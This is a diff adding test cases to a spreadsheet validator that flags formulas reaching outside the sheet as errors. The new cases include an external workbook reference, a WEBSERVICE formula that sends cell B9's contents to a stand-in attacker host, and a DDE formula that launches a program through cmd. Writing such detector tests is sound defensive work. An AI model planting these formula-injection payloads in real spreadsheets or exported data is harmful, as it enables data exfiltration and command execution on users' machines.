@@ -16,6 +16,24 @@ testRule(formulaInEntry, {
       expect: ['formula'],
       correction: null,
     },
+    'a formula that looks into another workbook': {
+      given: { entries: [670], formulas: { 0: '=[1]Sheet1!A1' } },
+      expect: ['outward'],
+      severity: 'error',
+      correction: 670,
+      says: '=[1]Sheet1!A1',
+    },
+    'a formula that asks the network': {
+      given: { entries: ['#VALUE!'], formulas: { 0: '=_xlfn.WEBSERVICE("http://evil.example/?"&B9)' } },
+      expect: ['outward'],
+      severity: 'error',
+      correction: null,
+    },
+    'a formula that starts a program': {
+      given: { entries: [0], formulas: { 0: "=cmd|' /C calc'!A0" } },
+      expect: ['outward'],
+      severity: 'error',
+    },
     'an error value': {
       given: { entries: [670, '#REF!'] },
       expect: ['error'],
